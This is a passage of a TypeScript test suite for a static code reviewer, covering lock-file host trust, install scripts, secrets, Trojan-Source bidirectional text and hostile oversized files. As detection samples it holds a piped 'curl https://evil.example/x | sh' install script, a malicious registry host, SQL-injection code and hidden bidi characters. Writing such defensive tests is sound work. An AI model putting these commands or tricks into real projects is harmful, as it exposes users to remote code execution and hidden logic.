// Tests of the static reviewer: findings of each rule, false positives, and hostile files.
import { once } from 'node:events'
import { extname } from 'node:path'
import type { Worker } from 'node:worker_threads'
import { afterAll, describe, expect, it } from 'vitest'
import type { ProposedFinding } from '../src/domain/finding.ts'
import type { Snapshot } from '../src/domain/snapshot.ts'
import { parseDiff } from '../src/git/parse-diff.ts'
import { languages } from '../src/languages/index.ts'
import { publicHosts } from '../src/reviewers/rules/dependency-manifest.ts'
import { rules } from '../src/reviewers/rules/index.ts'
import { lineRules } from '../src/reviewers/rules/line-rules.ts'
import { decodeSample, readRuleSamples } from './rule-samples.ts'
import { addedFiles, changeOf, emptyContext } from './samples/change-of-files.ts'
import { createStaticReviewer } from './samples/static-reviewer.ts'

const [npm] = publicHosts.npm

const reviewer = createStaticReviewer({ fileDeadlineMs: 20_000 })
afterAll(() => reviewer[Symbol.asyncDispose]())

const samples = readRuleSamples()
const awsKey = decodeSample('AKIAQ3⟦⟧XJ7KPL⟦⟧ZT5WMNB2')
const githubToken = decodeSample('ghp_k3Jx9QmZt⟦⟧7Rw2Lp8Vb4Nc6⟦⟧Yd1Hs5Gf0AeUiO')

async function review(files: Record<string, string>): Promise<readonly ProposedFinding[]> {
  const report = await reviewer.review(addedFiles(files), emptyContext, AbortSignal.timeout(60_000))
  expect(report.notes).toEqual([])
  return report.findings
}

function readMarks(marked: string): { text: string; lines: number[] } {
  const lines = marked.split('\n')
  return {
    text: `${lines.map((line) => line.replace(/ ◀$/, '')).join('\n')}\n`,
    lines: lines.flatMap((line, index) => (line.endsWith(' ◀') ? [index + 1] : [])),
  }
}

describe('each rule', () => {
  for (const { rule, file, reported, notReported } of samples) {
    it(`${rule} reports its samples in ${file}`, async () => {
      for (const sample of reported) {
        const { text, lines } = readMarks(decodeSample(sample))
        const findings = await review({ [file]: text })
        expect(
          findings.map((finding) => `${finding.rule}:${finding.startLine}`),
          text,
        ).toEqual(lines.map((line) => `${rule}:${line}`))
        for (const finding of findings) expectWellFormed(finding, text, secretsOf(sample))
      }
    })

    it(`${rule} reports nothing for near misses in ${file}`, async () => {
      for (const sample of notReported) {
        const text = decodeSample(sample)
        const findings = await review({ [file]: `${text}\n` })
        expect(
          findings.map((finding) => `${finding.rule}:${finding.startLine}: ${finding.title}`),
          text,
        ).toEqual([])
      }
    })
  }

  it('lists exactly the line rules as rules that run without parsing', () => {
    expect(lineRules).toEqual(rules.filter((rule) => rule.line !== undefined))
  })

  it('has samples and an id of its own', () => {
    const sampled = new Set(samples.map((sample) => sample.rule))
    // The rules on the code graph have their own tests.
    const expected = rules.filter((rule) => !rule.graph).map((rule) => rule.id)
    expect([...sampled].sort()).toEqual(expected.toSorted())
    expect(new Set(rules.map((rule) => rule.id)).size).toBe(rules.length)
  })

  it('has samples in each language that brings checks of its own', async () => {
    const missing: string[] = []
    for (const { names, loadRules } of languages) {
      const own = await loadRules?.()
      const extensions: string[] = []
      // C and C++ share their checks.
      for (const { grammars, loadRules: load } of languages)
        if (own && (await load?.()) === own)
          extensions.push(...grammars.flatMap(({ checked, searched }) => checked ?? searched ?? []))
      const hasSample = (id: string) =>
        samples.some(
          ({ rule, file, reported, notReported }) =>
            rule === id &&
            extensions.includes(extname(file)) &&
            reported.length > 0 &&
            notReported.length > 0,
        )
      const checked = Object.keys(own?.checks ?? {})
      missing.push(...checked.filter((id) => !hasSample(id)).map((id) => `${names[0]}: ${id}`))
    }
    expect(missing).toEqual([])
  })
})

/** The secrets of a sample are the words that it splits with `⟦⟧`. */
function secretsOf(sample: string): string[] {
  return [...sample.matchAll(/[\w/+.-]+(?:⟦⟧[\w/+.-]+)+/g)].map(([split]) => decodeSample(split))
}

function expectWellFormed(
  finding: ProposedFinding,
  text: string,
  secrets: readonly string[],
): void {
  const line = text.split('\n')[finding.startLine - 1]
  expect(finding).toMatchObject({ reviewer: 'static', side: 'RIGHT', endLine: finding.startLine })
  expect(finding.quote).toBe(finding.rule === 'hardcoded-secret' ? '' : line)
  expect(finding.title).not.toMatch(/[\n.]$|\n/)
  expect(finding.body).toMatch(/^When .*\.$/s)
  expect(finding.evidence.every((evidence) => evidence.line >= 1)).toBe(true)
  expect(finding.suggestion).not.toBe(line)
  const all = JSON.stringify(finding)
  for (const secret of secrets) expect(all).not.toContain(secret)
}

describe('the rules for manifests and lock files', () => {
  const lock = (packages: object) => `${JSON.stringify({ packages }, null, 1)}\n`
  const entry = (host: string, more: object = {}) => ({
    resolved: `https://${host}/a.tgz`,
    ...more,
  })
  async function find(base: Record<string, string>, head: Record<string, string>) {
    const report = await reviewer.review(
      changeOf(base, head),
      emptyContext,
      AbortSignal.timeout(60_000),
    )
    return report.findings.map(({ rule, severity, title }) => `${rule} ${severity}: ${title}`)
  }

  it("case 72: trust the hosts of the base's lock file and registry settings", async () => {
    const before = lock({ 'node_modules/a': entry('npm.acme.example') })
    const after = lock({
      'node_modules/a': entry('npm.acme.example'),
      'node_modules/b': entry('npm.acme.example'),
      'node_modules/c': entry('other.acme.example'),
    })
    const title = 'Packages come from `other.acme.example`, which nothing on the base branch names'
    const found = [`unknown-package-host moderate: ${title}`]
    expect(await find({ 'package-lock.json': before }, { 'package-lock.json': after })).toEqual(
      found,
    )
    const settings = { '.npmrc': '@acme:registry=https://other.acme.example/\n' }
    const files = { 'package-lock.json': before, ...settings }
    expect(await find(files, { ...settings, 'package-lock.json': after })).toEqual([])
    const elsewhere = { 'tools/yarn.lock': 'a@1:\n  resolved "https://other.acme.example/a.tgz"\n' }
    expect(
      await find({ ...files, ...elsewhere }, { ...elsewhere, 'package-lock.json': after }),
    ).toEqual([])
  })

  it('case 72: do not trust hosts from the change itself or from another ecosystem', async () => {
    const before = lock({})
    const after = lock({ 'node_modules/a': entry('evil.example') })
    const settings = { '.npmrc': 'registry=https://evil.example/\n' }
    const found = await find(
      { 'package-lock.json': before },
      { 'package-lock.json': after, ...settings },
    )
    expect(found.filter((each) => each.startsWith('unknown-package-host moderate'))).toHaveLength(2)
    const python = { 'pip.conf': 'index-url = https://evil.example/simple\n' }
    expect(
      await find(
        { ...python, 'package-lock.json': before },
        { ...python, 'package-lock.json': after },
      ),
    ).toHaveLength(1)
  })

  it('case 72: report a new install script as minor, and an existing one not at all', async () => {
    const before = lock({ 'node_modules/a': entry(npm, { hasInstallScript: true }) })
    const after = lock({
      'node_modules/b/node_modules/a': entry(npm, { hasInstallScript: true, version: '2.0.0' }),
      'node_modules/c': entry(npm, { hasInstallScript: true }),
    })
    expect(await find({ 'package-lock.json': before }, { 'package-lock.json': after })).toEqual([
      'install-script minor: `c` runs a script when installed, and did not before',
    ])
  })

  it.each([
    ['husky', 'minor'],
    ['node -e "require(1)"', 'moderate'],
    ['curl -o x https://evil.example/x', 'moderate'],
    ['curl https://evil.example/x | sh', 'critical'],
  ])('case 71: report an install script %s as %s', async (command, severity) => {
    const manifest = `${JSON.stringify({ scripts: { postinstall: command } }, null, 1)}\n`
    const found = await find({ 'package.json': '{}\n' }, { 'package.json': manifest })
    expect(found.filter((each) => each.startsWith('install-script'))).toEqual([
      expect.stringMatching(`^install-script ${severity}: `),
    ])
    const other = await find(
      { 'package.json': manifest },
      { 'package.json': manifest.replace('{', '{ "a": 1,') },
    )
    expect(other.filter((each) => each.startsWith('install-script'))).toEqual([])
  })

  it('case 71: report a changed script in its own list', async () => {
    const listOf = (command: string) =>
      `{ "scripts": {\n"post-install-cmd": [\n"php a",\n"${command}"\n],\n` +
      `"post-update-cmd": [\n"php a",\n"${command}"\n] } }\n`
    const [base, head] = [
      { 'composer.json': listOf('php b') },
      { 'composer.json': listOf('php c') },
    ]
    const change = changeOf(base, head)
    const hunk = (line: number) => `@@ -${line} +${line} @@\n-"php b"\n+"php c"\n`
    const names = '--- a/composer.json\n+++ b/composer.json\n'
    const { files } = parseDiff(
      `diff --git a/composer.json b/composer.json\nindex 0000001..0000002 100644\n${names}${hunk(4)}${hunk(8)}`,
    )
    const { findings } = await reviewer.review(
      { ...change, files },
      emptyContext,
      AbortSignal.timeout(60_000),
    )
    expect(findings.map(({ title, startLine }) => `${startLine}: ${title}`)).toEqual([
      expect.stringMatching(/^4: `post-install-cmd`/),
      expect.stringMatching(/^8: `post-update-cmd`/),
    ])
  })

  describe('with entries that do not match', () => {
    const registry = (name: string, more: object = {}) => ({
      version: '1.0.0',
      resolved: `https://${npm}/${name}/-/${name.split('/').at(-1)}-1.0.0.tgz`,
      integrity: 'sha512-old',
      ...more,
    })
    const compare = (before: object, after: object, manifest: object = {}) => {
      const both = { 'package.json': JSON.stringify(manifest) }
      return find(
        { ...both, 'package-lock.json': lock({ 'node_modules/a': before }) },
        { ...both, 'package-lock.json': lock({ 'node_modules/a': after }) },
      )
    }

    it('case 72: report different content of the same version', async () => {
      const title = 'The content of `a` changed, and its version did not'
      const found = [`lock-mismatch moderate: ${title}`]
      expect(await compare(registry('a'), registry('a', { integrity: 'sha512-new' }))).toEqual(
        found,
      )
    })

    it.each([
      ['a new version', { version: '1.0.1', integrity: 'sha512-new' }],
      ['a stronger hash', { integrity: 'sha256-new' }],
      ['one hash more', { integrity: 'sha512-new sha512-old' }],
      ['a git dependency', { resolved: `git+ssh://git@${npm}/a.git#2`, integrity: 'sha512-new' }],
      ['a file of the repository', { resolved: 'file:vendor/a.tgz', integrity: 'sha512-new' }],
    ])('case 72: report nothing for %s', async (_name, more) => {
      const found = await compare(
        registry('a', 'resolved' in more ? { resolved: more.resolved } : {}),
        registry('a', more),
      )
      expect(found.filter((each) => each.startsWith('lock-mismatch'))).toEqual([])
    })

    it('case 72: report no alias that the manifest or the base has', async () => {
      const alias = registry('b', { name: 'b' })
      const overrides = { overrides: { c: { a: 'npm:b@1.0.0' } } }
      expect(await compare(registry('a'), alias, overrides)).toEqual([])
      expect(await compare(alias, { ...alias, dev: true })).toEqual([])
      const title = '`a` is downloaded as another package, `b`'
      expect(await compare(registry('a'), alias)).toEqual([`lock-mismatch moderate: ${title}`])
    })
  })

  it('report a new alias in a manifest as minor once, and not its next version', async () => {
    const manifest = (a: string) => `${JSON.stringify({ dependencies: { a } }, null, 1)}\n`
    const change = (before: string, after: string) =>
      find({ 'package.json': manifest(before) }, { 'package.json': manifest(after) })
    expect(await change('^1.0.0', 'npm:b@^1.0.0')).toEqual([
      'package-alias minor: `a` is an alias of another package, `b`',
    ])
    expect(await change('npm:b@^1.0.0', 'npm:b@^1.1.0')).toEqual([])
    expect(await change('^1.0.0', '^1.1.0')).toEqual([])
  })

  it('report unreadable files', async () => {
    const change = addedFiles({
      'yarn.lock': `a:\n  resolved "https://evil.example/a"\n${'#'.repeat(17 << 20)}\n`,
    })
    const { findings } = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
    expect(findings).toMatchObject([
      { rule: 'unknown-package-host', title: expect.stringMatching(/too large/) },
    ])
  })
})

describe('settings of later reviews', () => {
  const find = async (base: Record<string, string>, head: Record<string, string>) => {
    const report = await reviewer.review(
      changeOf(base, head),
      emptyContext,
      AbortSignal.timeout(60_000),
    )
    return report.findings.map(({ rule, path, side, startLine, quote }) => [
      rule,
      path,
      side,
      startLine,
      quote,
    ])
  }
  const rule = 'review-settings-change'

  it('reports them once per file, on the relevant line', async () => {
    const before = 'mode: parallel\n# Ours\n'
    const after = 'mode: parallel\n# More\ngate: [incomplete]\npaths: {}\n'
    expect(await find({ '.umpire.yml': before }, { '.umpire.yml': after })).toEqual([
      [rule, '.umpire.yml', 'RIGHT', 3, 'gate: [incomplete]'],
    ])
    expect(
      await find({ '.umpire.yml': before }, { '.umpire.yml': before.replace('Ours', 'Theirs') }),
    ).toEqual([])
  })

  it.each([
    ['docs/old.yml', '.umpire.yml'],
    ['.github/CODEOWNERS', 'docs/owners.txt'],
  ])('reports a move from %s to %s', async (oldPath, path) => {
    const change = addedFiles({ [path]: 'a\n' })
    const moved = {
      ...change,
      files: change.files.map((file) => ({
        ...file,
        status: 'renamed' as const,
        oldPath,
        hunks: [],
      })),
    }
    const { findings } = await reviewer.review(moved, emptyContext, AbortSignal.timeout(60_000))
    expect(findings).toMatchObject([{ rule, path, side: 'RIGHT', startLine: 1 }])
  })

  it('reports removed lines', async () => {
    const owners = '* @acme/all\n/src/pay @acme/pay\n'
    expect(await find({ CODEOWNERS: owners }, { CODEOWNERS: '* @acme/all\n' })).toEqual([
      [rule, 'CODEOWNERS', 'LEFT', 2, '/src/pay @acme/pay'],
    ])
    const more = '/docs @acme/docs\n* @acme/all\n/src/pay @b @acme/pay\n'
    expect(await find({ CODEOWNERS: owners }, { CODEOWNERS: more })).toEqual([])
    const fewer = owners.replace('@acme/pay', '@b')
    expect(await find({ CODEOWNERS: owners }, { CODEOWNERS: fewer })).toEqual([
      [rule, 'CODEOWNERS', 'LEFT', 2, '/src/pay @acme/pay'],
    ])
    expect(await find({ '.umpire.yml': 'mode: parallel\n' }, {})).toEqual([
      [rule, '.umpire.yml', 'LEFT', 1, 'mode: parallel'],
    ])
    expect(
      await find({ '.gitattributes': 'a linguist-generated\n' }, { '.gitattributes': '' }),
    ).toEqual([])
  })
})

describe('security rules on text', () => {
  it('case 77: read tests, and files of any name', async () => {
    const text = decodeSample('/*⟦202e⟧ } ⟦2066⟧if (isAdmin)⟦2069⟧ ⟦2066⟧ begin admins only */\n')
    for (const path of [
      'src/a.test.ts',
      'tests/helper.js',
      'conftest.py',
      'Makefile',
      'gradlew',
      'x.php',
      'LICENSE',
    ])
      expect((await review({ [path]: text })).map(({ rule }) => rule)).toContain(
        'bidirectional-text',
      )
  })

  it('leave out a piped download that was there with another version', async () => {
    const install = (version: string) => `curl https://acme.example/setup.sh | sh -s ${version}\n`
    const files = (version: string) => ({ 'ci.sh': install(version) })
    const change = changeOf(files('v1.2.0'), files('v1.3.0'))
    const { findings } = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
    expect(findings).toEqual([])
    expect((await review(files('v1.3.0'))).map(({ rule }) => rule)).toEqual(['piped-download'])
  })

  it('leave out a secret that only gets another name', async () => {
    const files = (name: string, token: string) => ({ 'src/a.ts': `const ${name} = '${token}'\n` })
    const find = async (after: Record<string, string>) => {
      const change = changeOf(files('key', githubToken), after)
      return reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
    }
    expect((await find(files('apiKey', githubToken))).findings).toEqual([])
    const other = githubToken.replace('k3Jx', 'k4Jx')
    const { findings } = await find(files('key', other))
    expect(findings.map(({ rule }) => rule)).toEqual(['hardcoded-secret'])
  })

  it('leave out recordings of terminals in tests, and nowhere else', async () => {
    const text = '\u001b[1m$ ls\r\u001b[0m\rsrc\n'
    expect(await review({ 'tests/ref/ls/shell.recording': text })).toEqual([])
    for (const path of ['deploy.recording', 'tests/helper.js'])
      expect((await review({ [path]: text })).map(({ rule }) => rule)).toContain(
        'invisible-character',
      )
  })

  it('report what moves code beside a list of characters', async () => {
    const list = `x('\u202d\u202e\u2066\u2067\u2069');${'a();'.repeat(200)}`
    expect(await review({ 'src/a.js': `${list}\n` })).toEqual([])
    const moved = `${list} /* \u202e } \u2066 if (isAdmin) */\n`
    expect(await review({ 'src/a.js': moved })).toMatchObject([{ rule: 'bidirectional-text' }])
  })

  it('case 77: accept ranges of characters in minified patterns', async () => {
    const pattern = 'var a=/[!-\u2027\u202a-\ud7ff]/;'
    const minified = `${'a();'.repeat(300)}${pattern}\n`
    expect(await review({ 'src/a.js': minified })).toEqual([])
    expect(await review({ 'src/a.js': `${pattern}\n` })).toMatchObject([
      { rule: 'bidirectional-text' },
    ])
  })

  it.each(['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068'])(
    'case 77: report an unterminated %j in code as critical in every language',
    async (control) => {
      for (const path of [
        'a.c',
        'a.py',
        'a.rs',
        'a.sql',
        'a.sh',
        '.github/workflows/a.yml',
        'Dockerfile',
        'a.vue',
      ]) {
        const [finding] = await review({ [path]: `# "level${control}" ok\n` })
        expect(finding, path).toMatchObject({ rule: 'bidirectional-text', severity: 'critical' })
      }
    },
  )
})

describe('suggestions', () => {
  const suggestion = async (file: string, text: string) =>
    (await review({ [file]: text }))[0]?.suggestion

  it('insert the missing await and keep the indentation', async () => {
    const text = 'async function a() { await b() }\nexport async function c() {\n    a()\n}\n'
    expect(await suggestion('src/a.ts', text)).toBe('    await a()')
    const condition =
      'async function isOk() { return await b() }\nexport async function c() {\n\tif (!isOk()) stop()\n}\n'
    expect(await suggestion('src/a.ts', condition)).toBe('\tif (!(await isOk())) stop()')
  })

  it('swap the operator of a condition that cannot fail', async () => {
    const text = "if (role !== 'admin' || role !== 'owner') deny()\n"
    expect(await suggestion('src/a.ts', text)).toBe(
      "if (role !== 'admin' && role !== 'owner') deny()",
    )
  })

  it('create a default of Python inside the function', async () => {
    expect(
      await suggestion('a.py', 'def add(item, items: list = []):\n    items.append(item)\n'),
    ).toBe('def add(item, items: list | None = None):\n    if items is None:\n        items = []')
  })

  it('count columns in UTF-16 units, also after characters outside of the BMP', async () => {
    expect(await suggestion('src/a.ts', "const x = '😀é'; if (a === NaN) stop('😀')\n")).toBe(
      "const x = '😀é'; if (Number.isNaN(a)) stop('😀')",
    )
  })
})

it('report every error in a date pattern', async () => {
  const [finding] = await review({
    'src/A.java': 'class A { Object f = DateTimeFormatter.ofPattern("YYYY-mm-dd"); }\n',
  })
  expect(finding!.body).toMatch(/year of the week.*`mm` are the minutes/)
})

describe('the reviewed lines', () => {
  it('are the added lines only, with the rest of the file as context', async () => {
    const before = 'async function send() { await post() }\nif (a === NaN) stop()\n'
    const after = `${before}export async function run() {\n  send()\n}\n`
    const change = changeOf({ 'src/a.ts': before }, { 'src/a.ts': after })
    const { findings } = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
    expect(findings.map((finding) => [finding.rule, finding.startLine])).toEqual([
      ['unawaited-promise', 4],
    ])
    expect(findings[0]!.evidence).toContainEqual({
      path: 'src/a.ts',
      line: 1,
      note: '`send` is asynchronous',
    })
  })

  it('follow a named import to the file in the repository that defines it', async () => {
    const files = {
      'src/mail.ts':
        'import post from "y"\n\nexport async function send(to: string) { await post(to) }\nexport function note() {}\nexport async function track(to: string) {\n  try {\n    await post(to)\n  } catch (error) {\n    report(error)\n  }\n}\n',
      'src/auth/roles.ts': 'export const isAdmin = async (id: string) => (await load(id)).admin\n',
      'src/app.ts': `import { note, send as deliver, track } from './mail'
import { isAdmin } from './auth/roles.js'
export async function run(id: string) {
  if (isAdmin(id)) deliver(id)
  note()
  track(id)
}
export async function other(deliver: (id: string) => void) {
  deliver('x')
}
`,
    }
    const findings = await review(files)
    expect(
      findings.map((finding) => `${finding.path}:${finding.startLine}:${finding.rule}`).sort(),
    ).toEqual(['src/app.ts:4:promise-in-condition', 'src/app.ts:4:unawaited-promise'])
    expect(findings.flatMap((finding) => finding.evidence)).toEqual(
      expect.arrayContaining([
        { path: 'src/mail.ts', line: 3, note: '`deliver` is asynchronous' },
        { path: 'src/auth/roles.ts', line: 1, note: '`isAdmin` is asynchronous' },
      ]),
    )
  })

  it('exclude tests, deleted files, and languages without rules', async () => {
    const query = '(req) => db.query("SELECT * FROM t WHERE id = " + req.query.id)\n'
    expect(await review({ 'test/query.test.ts': query })).toEqual([])
    const text = 'if (a === NaN) stop()\n'
    expect(
      await review({ 'test/a.test.ts': text, 'src/__tests__/b.js': text, 'a.rs': text }),
    ).toEqual([])
    const deleted = changeOf({ 'src/a.ts': text }, {})
    expect(
      (await reviewer.review(deleted, emptyContext, AbortSignal.timeout(60_000))).findings,
    ).toEqual([])
  })

  it('are correct in files with CRLF', async () => {
    const findings = await review({ 'src/a.ts': 'const a = 1\r\nif (a === NaN) stop()\r\n' })
    expect(findings.map((finding) => [finding.rule, finding.startLine])).toEqual([
      ['nan-comparison', 2],
    ])
  })

  it('omit rules that are switched off', async () => {
    await using quiet = createStaticReviewer({ disabledRules: ['nan-comparison'] })
    const change = addedFiles({ 'src/a.ts': 'if (a === NaN) stop()\n' })
    expect(
      (await quiet.review(change, emptyContext, AbortSignal.timeout(60_000))).findings,
    ).toEqual([])
  })
})

describe('files that are read as text only', () => {
  const textOnlyOf = async (files: Record<string, string>) => {
    const report = await reviewer.review(
      addedFiles(files),
      emptyContext,
      AbortSignal.timeout(60_000),
    )
    expect(report).toMatchObject({ notes: [], unread: [], complete: true })
    return report.textOnly
  }

  it('include every file whose language has no rules or few, tests too', async () => {
    const files = {
      'm.ex': 'run()\n',
      'b.md': 'b\n',
      'd.ts': 'd()\n',
      'test/d.test.ts': 'd()\n',
    }
    expect(await textOnlyOf({ ...files, 'spec/m_spec.rb': 'run\n' })).toEqual([
      { path: 'm.ex', reason: 'no rules for Elixir: searched as text only' },
      { path: 'b.md', reason: 'no rules for Markdown: searched as text only' },
      { path: 'spec/m_spec.rb', reason: 'few rules for Ruby: searched for known dangers only' },
    ])
  })

  it('include files whose added lines contain a syntax error', async () => {
    const files = {
      'bad.py': 'from x import (\n a b\n',
      'bad.ts': 'export function ( {{{\n',
      'good.py': 'a = 1\n',
    }
    const reason = 'not parsed where changed: searched as text only there'
    expect(await textOnlyOf(files)).toEqual([
      { path: 'bad.py', reason },
      { path: 'bad.ts', reason },
    ])
  })

  it('exclude files with an error elsewhere', async () => {
    const before = 'const a = 1 1 = ;\n\nfunction b() {\n  return 1\n}\n'
    const change = changeOf({ 'src/a.ts': before }, { 'src/a.ts': `${before}export const c = 1\n` })
    const report = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
    expect(report).toMatchObject({ textOnly: [], readByRules: ['src/a.ts'] })
  })
})

describe('too many findings', () => {
  const many = `${'breakpoint()\n'.repeat(150)}<<<<<<< ours\n`

  it('are limited to the worst 100 of a file, and the others counted', async () => {
    const change = addedFiles({ 'src/many.py': many, 'src/one.py': 'breakpoint()\n' })
    const report = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
    const lines = report.findings
      .filter(({ path }) => path === 'src/many.py')
      .map(({ startLine }) => startLine)
    expect(lines).toEqual([...Array.from({ length: 99 }, (_, index) => index + 1), 151])
    expect(report.findings).toHaveLength(101)
    expect(report.notes).toEqual([
      expect.stringContaining('51 findings of the rules are not shown'),
    ])
    expect(report).toMatchObject({ complete: true, unread: ['src/many.py'] })
  })

  it('are limited to the worst 500 of a review', async () => {
    const files = Array.from({ length: 7 }, (_, index) => [
      `src/${index}.py`,
      `${'breakpoint()\n'.repeat(80)}`,
    ])
    const change = addedFiles({ ...Object.fromEntries(files), 'src/last.py': '<<<<<<< ours\n' })
    const report = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
    expect(report.findings).toHaveLength(500)
    expect(report.findings.map(({ severity }) => severity)).toContain('critical')
    expect(report.notes).toEqual([
      expect.stringContaining('61 findings of the rules are not shown'),
    ])
    expect(report.complete).toBe(true)
    expect(report.unread).toHaveLength(7)
  })

  it('exclude those of rules that are switched off', async () => {
    await using quiet = createStaticReviewer({ disabledRules: ['breakpoint'] })
    const report = await quiet.review(
      addedFiles({ 'src/many.py': many }),
      emptyContext,
      AbortSignal.timeout(60_000),
    )
    expect(report).toMatchObject({ notes: [], unread: [], complete: true })
    expect(report.findings).toHaveLength(1)
  })
})

describe('secrets', () => {
  it('are repeated nowhere, also when another rule reports the line', async () => {
    const secret = githubToken
    const findings = await review({
      'src/a.ts': `const call = (name) => db.query(\`SELECT * FROM t WHERE a = '\${name}' AND b = '${secret}'\`)\nif (x === NaN || token === '${secret}') stop()\n`,
    })
    expect(new Set(findings.map((finding) => finding.rule))).toEqual(
      new Set(['hardcoded-secret', 'sql-injection', 'nan-comparison']),
    )
    expect(JSON.stringify(findings)).not.toContain(secret)
  })
})

describe('very large changes', () => {
  const reason = 'the change is too large for the rules to parse all of it: searched as text only'

  it('case 81: are parsed up to a file limit, others read as added lines with a note', async () => {
    await using bounded = createStaticReviewer({ maxParsed: { files: 2, bytes: 1_000_000 } })
    const text = `if (a === NaN) stop()\nconst id = '${awsKey}'\n`
    const change = addedFiles({
      'a.ts': text,
      'b.py': 'x = 1\n',
      'c.ts': text,
      'd.ts': text,
      'e.md': '# E\n',
    })
    const report = await bounded.review(change, emptyContext, AbortSignal.timeout(60_000))
    const found = report.findings.map(({ path, rule }) => `${path}: ${rule}`)
    const inLines = ['a.ts', 'c.ts', 'd.ts'].map((path) => `${path}: hardcoded-secret`)
    expect(found).toEqual(['a.ts: nan-comparison', ...inLines])
    expect(report.textOnly).toEqual([
      { path: 'c.ts', reason },
      { path: 'd.ts', reason },
      { path: 'e.md', reason: expect.stringContaining('no rules') },
    ])
    expect(report.unread).toEqual(['c.ts', 'd.ts'])
    expect(report.complete).toBe(false)
  })

  it('case 81: are parsed up to a byte limit', async () => {
    await using bounded = createStaticReviewer({ maxParsed: { files: 100, bytes: 20 } })
    const text = 'if (a === NaN) stop()\n'
    const change = addedFiles({ 'a.ts': text, 'b.ts': text })
    const report = await bounded.review(change, emptyContext, AbortSignal.timeout(60_000))
    expect(report.findings.map(({ path }) => path)).toEqual(['a.ts'])
    expect(report).toMatchObject({
      readByRules: ['a.ts'],
      textOnly: [{ path: 'b.ts', reason }],
      unread: ['b.ts'],
    })
    expect(report.complete).toBe(false)
  })

  it('case 81: share the threads with other reviews', async () => {
    await using reviewerOfOne = createStaticReviewer({ threads: 1, fileDeadlineMs: 20_000 })
    const files = (count: number) =>
      Object.fromEntries(Array.from({ length: count }, (_, at) => [`src/${at}.ts`, 'let a = 1\n']))
    const ended: string[] = []
    const review = async (repo: string, count: number) => {
      const change = addedFiles(files(count))
      const owned = { ...change, pullRequest: { ...change.pullRequest, repo } }
      await reviewerOfOne.review(owned, emptyContext, AbortSignal.timeout(60_000))
      ended.push(repo)
    }
    await Promise.all([
      ...Array.from({ length: 8 }, (_, at) => review(`big/shop-${at}`, 3)),
      review('acme/shop', 1),
    ])
    expect(ended[0]).toBe('acme/shop')
  })
})

describe('hostile files', () => {
  const sound = { 'src/sound.ts': 'if (a === NaN) stop()\n' }

  it('case 38: a minified line of 20 MB is skipped, and the review reports it', async () => {
    const change = addedFiles({ ...sound, 'src/big.js': `${'a();'.repeat(5_000_000)}\n` })
    const report = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
    expect(report.findings.map((finding) => finding.path)).toEqual(['src/sound.ts'])
    expect(report.notes).toEqual([expect.stringMatching(/"src\/big\.js".*512 KB/)])
    expect(report.complete).toBe(false)
  })

  it('case 38: a minified line has critical findings only, and does not count as read', async () => {
    const code =
      'if (a === NaN) stop();(req) => db.query("SELECT * FROM t WHERE id = " + req.query.id);'
    const minified = `${code}${'a();'.repeat(500)}\n`
    const change = addedFiles({ 'src/plain.js': `${code}\n`, 'src/packed.js': minified })
    const report = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
    const found = Map.groupBy(report.findings, ({ path }) => path)
    expect(found.get('src/plain.js')!.map(({ severity }) => severity)).toContain('moderate')
    expect(found.get('src/packed.js')!.map(({ severity }) => severity)).toEqual(['critical'])
    expect(report.readByRules).toEqual(['src/plain.js'])
    expect(report.textOnly).toMatchObject([{ path: 'src/packed.js' }])
  })

  it('case 39: a file that exceeds the parsing time is named, others are reviewed', async () => {
    await using impatient = createStaticReviewer({ threads: 1, fileDeadlineMs: 5 })
    const hostile = addedFiles({ 'src/brackets.ts': `${'['.repeat(300_000)}\n` })
    const report = await impatient.review(hostile, emptyContext, AbortSignal.timeout(60_000))
    expect(report.notes).toEqual([expect.stringMatching(/"src\/brackets\.ts".*took too long/)])
    expect(report.complete).toBe(false)
    const both = await reviewer.review(
      addedFiles({ 'src/brackets.ts': `${'['.repeat(300_000)}\n`, ...sound }),
      emptyContext,
      AbortSignal.timeout(60_000),
    )
    expect(both.findings.map((finding) => finding.path)).toEqual(['src/sound.ts'])
  })

  it('case 39: a hanging thread is replaced, and the next file is reviewed', async () => {
    const open = '('.repeat(4_000)
    const hanging = `const f = async () => { list.forEach(async () => ${open}${'await x,'.repeat(8_000)}1${')'.repeat(4_000)}) }\n`
    await using reviewerOfOne = createStaticReviewer({
      threads: 1,
      fileDeadlineMs: 500,
      graceMs: 500,
    })
    const change = addedFiles({ 'src/hanging.ts': hanging, ...sound })
    const report = await reviewerOfOne.review(change, emptyContext, AbortSignal.timeout(60_000))
    expect(report.notes).toEqual([expect.stringMatching(/"src\/hanging\.ts".*took too long/)])
    expect(report.findings.map((finding) => finding.path)).toEqual(['src/sound.ts'])
  })

  it('case 39: a thread that ran out of memory is replaced', async () => {
    const threads: { exited: Promise<unknown> }[] = []
    const note = (thread: Worker) => threads.push({ exited: once(thread, 'exit') })
    process.on('worker', note)
    try {
      await using impatient = createStaticReviewer({ threads: 1, fileDeadlineMs: 5 })
      const hostile = addedFiles({ 'src/brackets.ts': `${'['.repeat(300_000)}\n` })
      const report = await impatient.review(hostile, emptyContext, AbortSignal.timeout(60_000))
      expect(report.complete).toBe(false)
      await impatient.review(addedFiles(sound), emptyContext, AbortSignal.timeout(60_000))
      expect(threads).toHaveLength(2)
      await threads[0]!.exited
    } finally {
      process.off('worker', note)
    }
  })

  it('case 39: disposing in the middle of a check ends the check', async () => {
    const reviewer = createStaticReviewer({ threads: 1, fileDeadlineMs: 120_000, graceMs: 0 })
    const running = reviewer.review(
      addedFiles({ 'src/a.ts': 'let a = 1\n' }),
      emptyContext,
      AbortSignal.timeout(60_000),
    )
    await reviewer[Symbol.asyncDispose]()
    expect((await running).notes).toEqual([
      expect.stringContaining('could not be parsed or checked'),
    ])
  })

  it('case 39: a slow workflow file is aborted at the time limit of a file', async () => {
    await using impatient = createStaticReviewer({ threads: 1, fileDeadlineMs: 1, graceMs: 0 })
    const workflow = `jobs:\n${'  a: { runs-on: x, steps: [] }\n'.repeat(15_000)}`
    const change = addedFiles({ '.github/workflows/slow.yml': workflow })
